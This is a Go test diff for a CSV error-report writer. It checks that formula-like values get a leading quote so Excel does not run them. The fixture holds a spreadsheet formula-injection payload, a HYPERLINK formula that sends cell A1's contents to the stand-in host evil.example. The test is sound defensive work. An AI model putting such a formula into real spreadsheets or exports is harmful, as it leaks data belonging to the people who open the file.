@@ -65,3 +65,16 @@ func TestHugeProcedureName(t *testing.T) {
 		}
 	}
 }
+
+// The error report a secretariat opens in Excel never runs a wrong value.
+func TestErrorsCSVNeutralisesFormulas(t *testing.T) {
+	var b strings.Builder
+	errs := []*RowError{{File: "=cmd.csv", Line: 3, Column: "Họ tên", Field: "ho_ten", Value: `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, Reason: "is required"}}
+	if err := WriteErrorsCSV(&b, errs); err != nil {
+		t.Fatal(err)
+	}
+	want := "'=cmd.csv,3,Họ tên,ho_ten,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Bấm vào đây\"\")\",is required\n"
+	if lines := strings.SplitN(b.String(), "\n", 2); len(lines) != 2 || lines[1] != want {
+		t.Errorf("got %q\nwant %q", b.String(), want)
+	}
+}
